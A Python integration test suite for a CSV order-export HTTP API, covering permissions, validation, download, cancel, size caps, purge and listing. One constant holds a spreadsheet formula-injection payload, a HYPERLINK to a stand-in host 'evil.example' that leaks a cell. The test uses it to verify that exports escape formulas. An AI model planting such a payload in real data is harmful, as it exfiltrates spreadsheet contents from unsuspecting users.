"""CSV order exports over HTTP, without a worker process: the export's chunks are written by
WriteExportChunk and the purge run by _purge, both in-process through a DI container built like
the worker's (one request scope per step, as the worker's TaskRunner does)."""

from __future__ import annotations

import asyncio
import dataclasses
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any, Final

import asyncpg
import httpx
import pytest
from dishka import AsyncContainer, Scope

from app.bootstrap.mapping import map_all
from app.bootstrap.settings import ExportSettings, Settings
from app.bootstrap.telemetry import Tracing
from app.bootstrap.worker.platform_tasks import _purge
from app.bootstrap.worker.runtime import worker_container as make_worker_container
from app.bootstrap.worker.sides import PURGE_STEPS
from app.ordering.application.commands.fail_order_export import (
    FailOrderExport,
    FailOrderExportRequest,
)
from app.ordering.application.commands.write_export_chunk import (
    WriteExportChunk,
    WriteExportChunkRequest,
)
from app.ordering.application.export_csv import HEADER
from tests.conftest import build_settings
from tests.integration.conftest import ClientFactory
from tests.integration.export_support import (
    EXPORTS,
    StoredOrder,
    export_status,
    insert_orders,
    parse_csv,
    start_export,
)
from tests.integration.support import (
    PROBLEM_JSON,
    Actor,
    Staffing,
    assert_problem,
    assert_unauthorized,
    staffing,
    user_with_role,
)
from tests.support.sql import asyncpg_dsn, sql_execute, sql_value

# Long past: every order of the range was placed before the export was requested.
FIRST: Final = datetime(2025, 6, 1, 8, 0, tzinfo=UTC)
FIRST_DAY: Final = "2025-06-01"
LAST_DAY: Final = "2025-06-02"
# Far more steps than any export here needs: a loop that never ends fails instead of hanging.
MAX_STEPS: Final = 1000
CHUNKS = "SELECT count(*) FROM order_export_chunks"
CHUNKS_OF = "SELECT count(*) FROM order_export_chunks WHERE export_id = $1"
EXPORT_ROWS_OF = "SELECT count(*) FROM order_exports WHERE id = $1"
INJECTED_REASON: Final = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


# --- in-process worker ---------------------------------------------------------------------------


@asynccontextmanager
async def worker_container(settings: Settings) -> AsyncIterator[AsyncContainer]:
    """The worker's container (see WorkerRuntime.start), on the test's event loop."""
    map_all()
    container = make_worker_container(settings, Tracing(None))
    try:
        yield container
    finally:
        await container.close()


async def write_chunk(container: AsyncContainer, export_id: str) -> bool:
    """One worker step in its own request scope (session, unit of work); True: more to write."""
    async with container(scope=Scope.REQUEST) as scope:
        interactor = await scope.get(WriteExportChunk)
        response = await interactor(WriteExportChunkRequest(export_id=uuid.UUID(export_id)))
    return response.more


async def write_until_finished(settings: Settings, export_id: str) -> int:
    """Drive the export as the worker's task would, step after step; the number of steps."""
    async with worker_container(settings) as container:
        for step in range(1, MAX_STEPS + 1):
            if not await write_chunk(container, export_id):
                return step
    raise AssertionError(f"export {export_id} still had more to write after {MAX_STEPS} steps")


async def give_up(settings: Settings, export_id: str) -> None:
    """What the worker does when the export's task failed for good."""
    async with (
        worker_container(settings) as container,
        container(scope=Scope.REQUEST) as scope,
    ):
        interactor = await scope.get(FailOrderExport)
        await interactor(FailOrderExportRequest(export_id=uuid.UUID(export_id)))


async def purge(settings: Settings) -> dict[str, int]:
    async with (
        worker_container(settings) as container,
        container(scope=Scope.REQUEST) as scope,
    ):
        return await _purge(scope, timedelta(days=settings.celery.retention_days), PURGE_STEPS)


# --- helpers -------------------------------------------------------------------------------------


async def started_export(
    client: httpx.AsyncClient,
    actor: Actor,
    first_day: str = FIRST_DAY,
    last_day: str = LAST_DAY,
) -> dict[str, Any]:
    response = await start_export(client, actor.headers, first_day, last_day)
    assert response.status_code == 202, response.text
    body: dict[str, Any] = response.json()
    return body


async def completed_export(
    client: httpx.AsyncClient, settings: Settings, actor: Actor
) -> dict[str, Any]:
    started = await started_export(client, actor)
    await write_until_finished(settings, started["id"])
    status = await export_status(client, actor.headers, started["id"])
    assert status["status"] == "completed", status
    return status


async def expire(database_url: str, export_id: str) -> None:
    result = await sql_execute(
        database_url,
        "UPDATE order_exports SET expires_at = now() - interval '1 second' WHERE id = $1",
        uuid.UUID(export_id),
    )
    assert result == "UPDATE 1"


async def insert_cancelled_order(
    database_url: str, *, placed_at: datetime, cancelled_at: datetime, reason: str
) -> uuid.UUID:
    order_id, customer_id = uuid.uuid4(), uuid.uuid4()
    connection = await asyncpg.connect(asyncpg_dsn(database_url))
    try:
        async with connection.transaction():
            await connection.execute(
                "INSERT INTO orders (id, customer_id, status, total_amount, currency, version,"
                " created_at, updated_at, cancelled_at, cancellation_reason)"
                " VALUES ($1, $2, 'cancelled', 12.50, 'EUR', 2, $3, $4, $4, $5)",
                order_id,
                customer_id,
                placed_at,
                cancelled_at,
                reason,
            )
            await connection.execute(
                "INSERT INTO order_lines (order_id, line_no, product_id, sku, name,"
                " unit_price_amount, unit_price_currency, quantity)"
                " VALUES ($1, 1, $2, 'SKU-9', 'Gadget', 6.25, 'EUR', 2)",
                order_id,
                uuid.uuid4(),
            )
    finally:
        await connection.close()
    return customer_id


def expected_row(order: StoredOrder) -> dict[str, str]:
    """What the export writes for an order from insert_orders (pending, one line, EUR)."""
    return {
        "order_id": str(order.id),
        "placed_at": order.placed_at.isoformat(),
        "customer_id": str(order.customer_id),
        "status": "pending_payment",
        "currency": "EUR",
        "total_amount": f"{order.total:.2f}",
        "line_count": "1",
        "item_count": str(order.quantity),
        "paid_at": "",
        "payment_reference": "",
        "shipped_at": "",
        "delivered_at": "",
        "cancelled_at": "",
        "cancellation_reason": "",
    }


def without_fast_path(settings: Settings) -> Settings:
    """Nothing publishes the outbox rows: they stay exactly as the request's transaction wrote
    them."""
    return dataclasses.replace(
        settings, celery=settings.celery.model_copy(update={"fast_path": False})
    )


# --- starting ------------------------------------------------------------------------------------


async def test_starting_an_export_answers_202_with_a_queued_status_and_where_to_poll(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    response = await start_export(client, team.staff.headers, FIRST_DAY, LAST_DAY)

    assert response.status_code == 202, response.text
    body = response.json()
    uuid.UUID(body["id"])
    assert body["status"] == "queued"
    assert body["requested_by"] == team.staff.id
    assert (body["first_day"], body["last_day"]) == (FIRST_DAY, LAST_DAY)
    assert body["status_url"] == f"{EXPORTS}/{body['id']}"
    assert response.headers["Location"] == body["status_url"]
    assert body["download_url"] is None
    assert (body["rows_written"], body["percent"], body["rows_total"]) == (0, 0.0, None)


async def test_starting_an_export_writes_its_requested_event_in_the_same_transaction(
    make_client: ClientFactory, settings: Settings, database_url: str
) -> None:
    client = await make_client(without_fast_path(settings))
    team = await staffing(client, database_url)

    export_id = uuid.UUID((await started_export(client, team.staff))["id"])

    events = await sql_value(
        database_url,
        "SELECT count(*) FROM outbox_events WHERE event_type = 'OrderExportRequested'"
        " AND aggregate_id = $1",
        export_id,
    )
    assert events == 1
    # Rows inserted by one transaction carry its id as xmin (neither row was updated since).
    same_transaction = await sql_value(
        database_url,
        "SELECT e.xmin::text = o.xmin::text FROM order_exports e, outbox_events o"
        " WHERE e.id = $1 AND o.aggregate_id = $1 AND o.event_type = 'OrderExportRequested'",
        export_id,
    )
    assert same_transaction is True


# --- permissions ---------------------------------------------------------------------------------


async def test_a_customer_may_not_start_an_export(
    client: httpx.AsyncClient, team: Staffing, database_url: str
) -> None:
    response = await start_export(client, team.customer.headers, FIRST_DAY, LAST_DAY)

    assert_problem(response, 403, "forbidden")
    assert await sql_value(database_url, "SELECT count(*) FROM order_exports") == 0


@pytest.mark.parametrize(
    ("method", "suffix"),
    [("POST", ""), ("GET", "/{id}"), ("POST", "/{id}/cancel"), ("GET", "/{id}/download")],
)
async def test_anonymous_callers_get_401_on_every_export_route(
    client: httpx.AsyncClient, method: str, suffix: str
) -> None:
    url = EXPORTS + suffix.format(id=uuid.uuid4())
    body = {"first_day": FIRST_DAY, "last_day": LAST_DAY} if method == "POST" else None

    response = await client.request(method, url, json=body)

    assert_unauthorized(response, "not_authenticated")


@pytest.mark.parametrize(
    ("method", "suffix"), [("GET", ""), ("POST", "/cancel"), ("GET", "/download")]
)
async def test_another_staff_member_gets_404_for_an_export_they_did_not_start(
    client: httpx.AsyncClient, team: Staffing, method: str, suffix: str
) -> None:
    export = await started_export(client, team.staff)
    other = await user_with_role(client, team.admin.tokens, "sue", "staff")

    response = await client.request(method, export["status_url"] + suffix, headers=other.headers)

    body = assert_problem(response, 404, "export_not_found")
    assert body["export_id"] == export["id"]
    # Untouched: the owner still sees it queued.
    assert (await export_status(client, team.staff.headers, export["id"]))["status"] == "queued"


@pytest.mark.parametrize(("method", "suffix"), [("GET", ""), ("POST", "/cancel")])
async def test_a_customer_gets_404_for_an_existing_export(
    client: httpx.AsyncClient, team: Staffing, method: str, suffix: str
) -> None:
    export = await started_export(client, team.staff)

    response = await client.request(
        method, export["status_url"] + suffix, headers=team.customer.headers
    )

    assert_problem(response, 404, "export_not_found")


async def test_an_admin_sees_an_export_someone_else_started(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    export = await started_export(client, team.staff)

    status = await export_status(client, team.admin.headers, export["id"])

    assert status["id"] == export["id"]
    assert status["requested_by"] == team.staff.id
    assert status["status"] == "queued"


async def test_an_admin_cancels_an_export_someone_else_started(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    export = await started_export(client, team.staff)

    response = await client.post(f"{export['status_url']}/cancel", headers=team.admin.headers)

    assert response.status_code == 200, response.text
    assert response.json()["status"] == "cancelled"
    assert (await export_status(client, team.staff.headers, export["id"]))["status"] == (
        "cancelled"
    )


# --- validation ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("first_day", "last_day"),
    [
        pytest.param("2025-06-02", "2025-06-01", id="reversed"),
        pytest.param("2024-01-01", "2025-01-01", id="367-days"),
        pytest.param("0001-01-01", "9999-12-31", id="whole-calendar"),
        pytest.param("9999-12-31", "9999-12-31", id="last-representable-day"),
    ],
)
async def test_a_range_that_is_not_1_to_366_days_forwards_is_refused_with_invalid_date_range(
    client: httpx.AsyncClient, team: Staffing, database_url: str, first_day: str, last_day: str
) -> None:
    response = await start_export(client, team.staff.headers, first_day, last_day)

    body = assert_problem(response, 422, "invalid_date_range")
    assert (body["first_day"], body["last_day"]) == (first_day, last_day)
    assert await sql_value(database_url, "SELECT count(*) FROM order_exports") == 0


async def test_a_range_of_exactly_366_days_is_accepted(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    response = await start_export(client, team.staff.headers, "2024-01-01", "2024-12-31")

    assert response.status_code == 202, response.text


@pytest.mark.parametrize(
    "body",
    [
        pytest.param({"first_day": FIRST_DAY}, id="missing-last-day"),
        pytest.param({}, id="empty-object"),
        pytest.param({"first_day": "2025-13-01", "last_day": LAST_DAY}, id="month-13"),
        pytest.param({"first_day": "2025-02-29", "last_day": LAST_DAY}, id="no-such-day"),
        pytest.param({"first_day": "1st of June", "last_day": LAST_DAY}, id="words"),
        pytest.param({"first_day": 0, "last_day": 86400}, id="seconds-since-1970"),
        pytest.param({"first_day": "2025-06-01T00:00:00", "last_day": LAST_DAY}, id="a-moment"),
        pytest.param({"first_day": FIRST_DAY, "last_day": "2025-06-02junk"}, id="trailing-junk"),
        pytest.param({"first_day": None, "last_day": LAST_DAY}, id="null"),
        pytest.param({"first_day": [FIRST_DAY], "last_day": LAST_DAY}, id="list"),
        pytest.param([FIRST_DAY, LAST_DAY], id="array-body"),
    ],
)
async def test_a_malformed_body_is_refused_with_validation_error(
    client: httpx.AsyncClient, team: Staffing, database_url: str, body: object
) -> None:
    response = await client.post(EXPORTS, json=body, headers=team.staff.headers)

    problem = assert_problem(response, 422, "validation_error")
    assert problem["errors"], problem
    assert await sql_value(database_url, "SELECT count(*) FROM order_exports") == 0


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b'{"first_day": "2025-06-01", "last_day": "2025-06-02"} junk', id="after"),
        pytest.param(b"not json at all", id="not-json"),
        pytest.param(b'{"first_day": "2025-06-01",', id="truncated"),
    ],
)
async def test_a_body_that_is_not_json_is_refused_with_validation_error(
    client: httpx.AsyncClient, team: Staffing, content: bytes
) -> None:
    response = await client.post(
        EXPORTS,
        content=content,
        headers={**team.staff.headers, "Content-Type": "application/json"},
    )

    assert_problem(response, 422, "validation_error")


async def test_a_body_that_is_not_utf8_is_a_400_problem_not_a_server_error(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    response = await client.post(
        EXPORTS,
        content=b"\xff\xfe\x00junk",
        headers={**team.staff.headers, "Content-Type": "application/json"},
    )

    assert_problem(response, 400, "bad_request")


@pytest.mark.parametrize(
    "day", [pytest.param("0001-01-01", id="first"), pytest.param("9999-12-30", id="last")]
)
async def test_an_export_of_a_day_at_the_edge_of_the_calendar_completes_empty(
    client: httpx.AsyncClient, settings: Settings, team: Staffing, day: str
) -> None:
    export = await started_export(client, team.staff, day, day)

    await write_until_finished(settings, export["id"])

    status = await export_status(client, team.staff.headers, export["id"])
    assert (status["status"], status["rows_total"], status["rows_written"]) == ("completed", 0, 0)
    download = await client.get(status["download_url"], headers=team.staff.headers)
    assert download.content == (",".join(HEADER) + "\r\n").encode()


# --- unknown and malformed ids -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "suffix"), [("GET", ""), ("POST", "/cancel"), ("GET", "/download")]
)
async def test_an_unknown_export_id_is_404_export_not_found(
    client: httpx.AsyncClient, team: Staffing, method: str, suffix: str
) -> None:
    unknown = uuid.uuid4()

    response = await client.request(
        method, f"{EXPORTS}/{unknown}{suffix}", headers=team.admin.headers
    )

    body = assert_problem(response, 404, "export_not_found")
    assert body["export_id"] == str(unknown)


@pytest.mark.parametrize(
    ("method", "suffix"), [("GET", ""), ("POST", "/cancel"), ("GET", "/download")]
)
async def test_a_malformed_export_id_is_422(
    client: httpx.AsyncClient, team: Staffing, method: str, suffix: str
) -> None:
    response = await client.request(
        method, f"{EXPORTS}/not-a-uuid{suffix}", headers=team.staff.headers
    )

    body = assert_problem(response, 422, "validation_error")
    assert body["errors"][0]["loc"] == ["path", "export_id"]


# --- download ------------------------------------------------------------------------------------


async def test_downloading_a_queued_export_is_409_export_not_ready(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    export = await started_export(client, team.staff)

    response = await client.get(f"{export['status_url']}/download", headers=team.staff.headers)

    body = assert_problem(response, 409, "export_not_ready")
    assert body["current_status"] == "queued"


async def test_downloading_a_cancelled_export_is_409_export_not_ready(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    export = await started_export(client, team.staff)
    cancelled = await client.post(f"{export['status_url']}/cancel", headers=team.staff.headers)
    assert cancelled.status_code == 200, cancelled.text

    response = await client.get(f"{export['status_url']}/download", headers=team.staff.headers)

    body = assert_problem(response, 409, "export_not_ready")
    assert body["current_status"] == "cancelled"


async def test_a_completed_export_offers_its_download_url_and_an_expiry(
    client: httpx.AsyncClient, settings: Settings, team: Staffing
) -> None:
    status = await completed_export(client, settings, team.staff)

    assert status["download_url"] == f"{status['status_url']}/download"
    assert status["percent"] == 100.0
    assert status["rows_total"] == status["rows_written"] == 0
    finished_at = datetime.fromisoformat(status["finished_at"])
    expires_at = datetime.fromisoformat(status["expires_at"])
    assert expires_at - finished_at == timedelta(seconds=settings.export.retention_seconds)


async def test_downloading_an_expired_export_is_410_export_expired(
    client: httpx.AsyncClient, settings: Settings, database_url: str, team: Staffing
) -> None:
    status = await completed_export(client, settings, team.staff)
    await expire(database_url, status["id"])

    response = await client.get(status["download_url"], headers=team.staff.headers)

    assert response.status_code == 410, response.text
    assert response.headers["content-type"].startswith(PROBLEM_JSON)
    assert_problem(response, 410, "export_expired")
    # The status no longer offers the link.
    again = await client.get(status["status_url"], headers=team.staff.headers)
    assert again.json()["status"] == "completed"
    assert again.json()["download_url"] is None


async def test_the_downloaded_csv_holds_the_orders_of_the_range_with_formulas_escaped(
    make_client: ClientFactory, database_url: str, redis_url: str
) -> None:
    settings = build_settings(database_url, redis_url, export=ExportSettings(chunk_rows=10))
    client = await make_client(settings)
    team = await staffing(client, database_url)
    await insert_orders(database_url, 3, first=FIRST - timedelta(days=1, hours=1))  # before
    inside = await insert_orders(database_url, 24, first=FIRST, step=timedelta(minutes=30))
    await insert_orders(database_url, 2, first=FIRST + timedelta(days=2))  # after
    placed_at = FIRST + timedelta(hours=20)
    cancelled_at = placed_at + timedelta(minutes=5)
    customer_id = await insert_cancelled_order(
        database_url, placed_at=placed_at, cancelled_at=cancelled_at, reason=INJECTED_REASON
    )
    cancelled_row = {
        **expected_row(StoredOrder(uuid.uuid4(), customer_id, placed_at, Decimal("12.50"), 2)),
        "status": "cancelled",
        "cancelled_at": cancelled_at.isoformat(),
        # Shown as text by a spreadsheet, never evaluated as a formula.
        "cancellation_reason": "'" + INJECTED_REASON,
    }
    status = await completed_export(client, settings, team.staff)

    download = await client.get(status["download_url"], headers=team.staff.headers)

    assert download.status_code == 200, download.text
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert download.headers["cache-control"] == "no-store"
    assert download.headers["content-disposition"] == (
        f'attachment; filename="orders-{FIRST_DAY}-to-{LAST_DAY}.csv"'
    )
    assert int(download.headers["content-length"]) == len(download.content)
    assert status["size_bytes"] == len(download.content)
    assert download.content.startswith((",".join(HEADER) + "\r\n").encode())
    rows = parse_csv(download.content)
    expected = [expected_row(order) for order in inside if order.placed_at < placed_at]
    expected.append(cancelled_row)
    expected += [expected_row(order) for order in inside if order.placed_at > placed_at]
    # The cancelled order's id is not known to the expected row: compare it apart.
    assert [row["customer_id"] for row in rows] == [row["customer_id"] for row in expected]
    assert [{**row, "order_id": ""} for row in rows] == [
        {**row, "order_id": ""} for row in expected
    ]
    assert [row["order_id"] for row in rows if row["status"] != "cancelled"] == [
        str(order.id) for order in inside
    ]
    assert status["rows_total"] == status["rows_written"] == 25
    # 25 orders in chunks of 10: three chunks, the header in the first only.
    assert await sql_value(database_url, CHUNKS) == 3
    assert download.content.count(b"order_id,placed_at") == 1


def chunked(database_url: str, redis_url: str) -> Settings:
    return build_settings(database_url, redis_url, export=ExportSettings(chunk_rows=10))


async def downloaded_rows(
    client: httpx.AsyncClient, settings: Settings, actor: Actor, first_day: str, last_day: str
) -> list[dict[str, str]]:
    export = await started_export(client, actor, first_day, last_day)
    await write_until_finished(settings, export["id"])
    status = await export_status(client, actor.headers, export["id"])
    assert status["status"] == "completed", status
    download = await client.get(status["download_url"], headers=actor.headers)
    assert download.status_code == 200, download.text
    return parse_csv(download.content)


async def test_orders_placed_at_the_same_instant_across_chunks_are_each_written_once(
    make_client: ClientFactory, database_url: str, redis_url: str
) -> None:
    settings = chunked(database_url, redis_url)
    client = await make_client(settings)
    team = await staffing(client, database_url)
    orders = await insert_orders(database_url, 25, first=FIRST, step=timedelta(0))

    rows = await downloaded_rows(client, settings, team.staff, FIRST_DAY, FIRST_DAY)

    # Ties on placed_at are broken by order id: the keyset neither skips nor repeats one.
    assert [row["order_id"] for row in rows] == sorted(str(order.id) for order in orders)


async def test_the_range_holds_its_first_midnight_and_not_the_midnight_after_its_last_day(
    client: httpx.AsyncClient, settings: Settings, database_url: str, team: Staffing
) -> None:
    start = datetime(2025, 6, 1, tzinfo=UTC)
    end = datetime(2025, 6, 3, tzinfo=UTC)
    before = await insert_orders(database_url, 1, first=start - timedelta(microseconds=1))
    first = await insert_orders(database_url, 1, first=start)
    last = await insert_orders(database_url, 1, first=end - timedelta(microseconds=1))
    after = await insert_orders(database_url, 1, first=end)

    rows = await downloaded_rows(client, settings, team.staff, "2025-06-01", "2025-06-02")

    assert [row["order_id"] for row in rows] == [str(first[0].id), str(last[0].id)]
    assert {str(before[0].id), str(after[0].id)}.isdisjoint(row["order_id"] for row in rows)


async def test_orders_placed_after_the_export_was_requested_are_left_out(
    client: httpx.AsyncClient, settings: Settings, database_url: str, team: Staffing
) -> None:
    today = datetime.now(UTC).date()
    first_day = (today - timedelta(days=1)).isoformat()
    last_day = (today + timedelta(days=1)).isoformat()
    export = await started_export(client, team.staff, first_day, last_day)
    requested_at = datetime.fromisoformat(export["requested_at"])
    earlier, later = await insert_orders(
        database_url, 2, first=requested_at - timedelta(minutes=1), step=timedelta(minutes=2)
    )

    await write_until_finished(settings, export["id"])

    status = await export_status(client, team.staff.headers, export["id"])
    assert (status["rows_total"], status["rows_written"]) == (1, 1)
    download = await client.get(status["download_url"], headers=team.staff.headers)
    written = [row["order_id"] for row in parse_csv(download.content)]
    assert written == [str(earlier.id)]
    assert str(later.id) not in written


async def test_a_running_export_reports_its_progress_and_cannot_be_downloaded_yet(
    make_client: ClientFactory, database_url: str, redis_url: str
) -> None:
    settings = chunked(database_url, redis_url)
    client = await make_client(settings)
    team = await staffing(client, database_url)
    await insert_orders(database_url, 40, first=FIRST, step=timedelta(minutes=1))
    export = await started_export(client, team.staff)

    async with worker_container(settings) as container:
        assert await write_chunk(container, export["id"]) is True

    status = await export_status(client, team.staff.headers, export["id"])
    assert status["status"] == "running"
    assert (status["rows_total"], status["rows_written"], status["percent"]) == (40, 10, 25.0)
    assert status["started_at"] is not None
    assert status["download_url"] is None
    download = await client.get(f"{export['status_url']}/download", headers=team.staff.headers)
    body = assert_problem(download, 409, "export_not_ready")
    assert body["current_status"] == "running"


async def test_an_export_the_worker_gives_up_on_reads_failed_and_keeps_no_chunks(
    make_client: ClientFactory, database_url: str, redis_url: str
) -> None:
    settings = chunked(database_url, redis_url)
    client = await make_client(settings)
    team = await staffing(client, database_url)
    await insert_orders(database_url, 40, first=FIRST, step=timedelta(minutes=1))
    export = await started_export(client, team.staff)
    async with worker_container(settings) as container:
        assert await write_chunk(container, export["id"]) is True
    assert await sql_value(database_url, CHUNKS) == 1

    await give_up(settings, export["id"])

    status = await export_status(client, team.staff.headers, export["id"])
    assert (status["status"], status["failure_reason"]) == ("failed", "internal_error")
    assert status["expires_at"] is not None
    assert await sql_value(database_url, CHUNKS) == 0
    cancel = await client.post(f"{export['status_url']}/cancel", headers=team.staff.headers)
    assert assert_problem(cancel, 409, "export_finished")["current_status"] == "failed"


# --- cancel --------------------------------------------------------------------------------------


async def test_cancelling_a_queued_export_cancels_it(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    export = await started_export(client, team.staff)

    response = await client.post(f"{export['status_url']}/cancel", headers=team.staff.headers)

    assert response.status_code == 200, response.text
    body = response.json()
    assert body["status"] == "cancelled"
    assert body["finished_at"] is not None
    assert body["expires_at"] is not None
    assert body["download_url"] is None
    assert (await export_status(client, team.staff.headers, export["id"]))["status"] == (
        "cancelled"
    )


async def test_a_cancelled_export_is_never_written(
    client: httpx.AsyncClient, settings: Settings, database_url: str, team: Staffing
) -> None:
    await insert_orders(database_url, 5, first=FIRST)
    export = await started_export(client, team.staff)
    cancelled = await client.post(f"{export['status_url']}/cancel", headers=team.staff.headers)
    assert cancelled.status_code == 200, cancelled.text

    steps = await write_until_finished(settings, export["id"])

    assert steps == 1
    status = await export_status(client, team.staff.headers, export["id"])
    assert (status["status"], status["rows_written"], status["started_at"]) == (
        "cancelled",
        0,
        None,
    )
    assert await sql_value(database_url, CHUNKS) == 0


async def test_cancelling_a_completed_export_is_409_export_finished(
    client: httpx.AsyncClient, settings: Settings, team: Staffing
) -> None:
    status = await completed_export(client, settings, team.staff)

    response = await client.post(f"{status['status_url']}/cancel", headers=team.staff.headers)

    body = assert_problem(response, 409, "export_finished")
    assert body["current_status"] == "completed"
    assert (await export_status(client, team.staff.headers, status["id"]))["status"] == (
        "completed"
    )


async def test_cancelling_twice_answers_200_both_times_and_changes_nothing_the_second_time(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    export = await started_export(client, team.staff)
    cancel_url = f"{export['status_url']}/cancel"

    first = await client.post(cancel_url, headers=team.staff.headers)
    second = await client.post(cancel_url, headers=team.staff.headers)

    assert (first.status_code, second.status_code) == (200, 200), (first.text, second.text)
    assert first.json()["status"] == second.json()["status"] == "cancelled"
    assert second.json()["finished_at"] == first.json()["finished_at"]
    assert second.json()["expires_at"] == first.json()["expires_at"]


# --- size cap ------------------------------------------------------------------------------------


async def test_an_export_past_its_size_cap_fails_too_large_and_keeps_no_chunks(
    make_client: ClientFactory, database_url: str, redis_url: str
) -> None:
    # Header plus 10 rows is ~2 KB: a few chunks fit, the file as a whole does not.
    settings = build_settings(
        database_url, redis_url, export=ExportSettings(max_bytes=6000, chunk_rows=10)
    )
    client = await make_client(settings)
    team = await staffing(client, database_url)
    await insert_orders(database_url, 100, first=FIRST, step=timedelta(minutes=5))
    export = await started_export(client, team.staff)

    steps = await write_until_finished(settings, export["id"])

    status = await export_status(client, team.staff.headers, export["id"])
    assert status["status"] == "failed", status
    assert status["failure_reason"] == "too_large"
    assert status["download_url"] is None
    assert 1 < steps < 10  # some chunks were written before the cap was hit
    assert await sql_value(database_url, CHUNKS) == 0
    download = await client.get(f"{export['status_url']}/download", headers=team.staff.headers)
    assert_problem(download, 409, "export_not_ready")


# --- purge ---------------------------------------------------------------------------------------


async def test_the_purge_removes_an_expired_export_with_its_chunks_and_keeps_live_ones(
    client: httpx.AsyncClient, settings: Settings, database_url: str, team: Staffing
) -> None:
    await insert_orders(database_url, 5, first=FIRST)
    expired = await completed_export(client, settings, team.staff)
    live = await completed_export(client, settings, team.staff)
    queued = await started_export(client, team.staff)
    await expire(database_url, expired["id"])
    assert await sql_value(database_url, CHUNKS_OF, uuid.UUID(expired["id"])) == 1

    removed = await purge(settings)

    assert removed["order_exports"] == 1
    assert await sql_value(database_url, EXPORT_ROWS_OF, uuid.UUID(expired["id"])) == 0
    assert await sql_value(database_url, CHUNKS_OF, uuid.UUID(expired["id"])) == 0
    assert await sql_value(database_url, CHUNKS_OF, uuid.UUID(live["id"])) == 1
    gone = await client.get(expired["status_url"], headers=team.staff.headers)
    assert_problem(gone, 404, "export_not_found")
    still = await export_status(client, team.staff.headers, live["id"])
    assert still["status"] == "completed"
    assert (await export_status(client, team.staff.headers, queued["id"]))["status"] == "queued"
    download = await client.get(live["download_url"], headers=team.staff.headers)
    assert download.status_code == 200
    assert len(parse_csv(download.content)) == 5


async def test_the_purge_removes_an_export_that_never_finished_within_the_retention(
    client: httpx.AsyncClient, settings: Settings, database_url: str, team: Staffing
) -> None:
    abandoned = await started_export(client, team.staff)
    recent = await started_export(client, team.staff)
    retention = timedelta(days=settings.celery.retention_days)
    await sql_execute(
        database_url,
        "UPDATE order_exports SET requested_at = now() - $2::interval WHERE id = $1",
        uuid.UUID(abandoned["id"]),
        retention + timedelta(minutes=1),
    )

    removed = await purge(settings)

    assert removed["order_exports"] == 1
    assert await sql_value(database_url, EXPORT_ROWS_OF, uuid.UUID(abandoned["id"])) == 0
    assert await sql_value(database_url, EXPORT_ROWS_OF, uuid.UUID(recent["id"])) == 1


# --- listing -------------------------------------------------------------------------------------


async def _list_all(
    client: httpx.AsyncClient, actor: Actor, limit: int
) -> tuple[list[dict[str, Any]], int]:
    """Every page of the listing; the items and the number of pages."""
    items: list[dict[str, Any]] = []
    cursor: str | None = None
    for pages in range(1, 50):
        params: dict[str, str | int] = {"limit": limit}
        if cursor is not None:
            params["cursor"] = cursor
        response = await client.get(EXPORTS, params=params, headers=actor.headers)
        assert response.status_code == 200, response.text
        items += response.json()["items"]
        cursor = response.json()["next_cursor"]
        if cursor is None:
            return items, pages
    raise AssertionError("the listing never ended")


async def test_staff_list_their_own_exports_newest_first_page_by_page(
    make_client: ClientFactory, database_url: str, redis_url: str
) -> None:
    settings = build_settings(database_url, redis_url, export=ExportSettings(max_unfinished=10))
    client = await make_client(settings)
    team = await staffing(client, database_url)
    other = await user_with_role(client, team.admin.tokens, "stella", "staff")
    mine = [await started_export(client, team.staff) for _ in range(5)]
    theirs = await started_export(client, other)

    items, pages = await _list_all(client, team.staff, limit=2)

    assert [item["id"] for item in items] == [export["id"] for export in reversed(mine)]
    assert pages == 3
    assert all(item["status_url"] == f"{EXPORTS}/{item['id']}" for item in items)
    admin_items, _ = await _list_all(client, team.admin, limit=100)
    assert {item["id"] for item in admin_items} == {e["id"] for e in [*mine, theirs]}


async def test_listing_exports_needs_staff_and_a_cursor_it_issued(
    client: httpx.AsyncClient, team: Staffing
) -> None:
    assert_problem(await client.get(EXPORTS, headers=team.customer.headers), 403, "forbidden")
    assert (await client.get(EXPORTS)).status_code == 401
    forged = await client.get(
        EXPORTS, params={"cursor": "not-a-cursor"}, headers=team.staff.headers
    )
    assert_problem(forged, 422, "invalid_cursor")
    too_many = await client.get(EXPORTS, params={"limit": 101}, headers=team.staff.headers)
    assert_problem(too_many, 422, "validation_error")


# --- how many at once ----------------------------------------------------------------------------


async def test_starts_at_once_beyond_the_maximum_of_unfinished_exports_are_refused(
    client: httpx.AsyncClient, settings: Settings, team: Staffing
) -> None:
    """Eight starts at once with room for three: the per-requester lock makes the count and
    the insert atomic, so exactly three are queued and the rest get 409."""
    limit = settings.export.max_unfinished
    responses = await asyncio.gather(
        *(start_export(client, team.staff.headers, FIRST_DAY, LAST_DAY) for _ in range(8))
    )

    statuses = sorted(response.status_code for response in responses)
    assert statuses == [202] * limit + [409] * (8 - limit)
    refused = next(response for response in responses if response.status_code == 409)
    assert assert_problem(refused, 409, "too_many_exports")["max_unfinished"] == limit
    # Another staff member is not held back by them; a cancel makes room again.
    assert (await start_export(client, team.admin.headers, FIRST_DAY, LAST_DAY)).status_code == 202
    queued = next(response.json() for response in responses if response.status_code == 202)
    cancelled = await client.post(f"{queued['status_url']}/cancel", headers=team.staff.headers)
    assert cancelled.status_code == 200
    again = await start_export(client, team.staff.headers, FIRST_DAY, LAST_DAY)
    assert again.status_code == 202, again.text
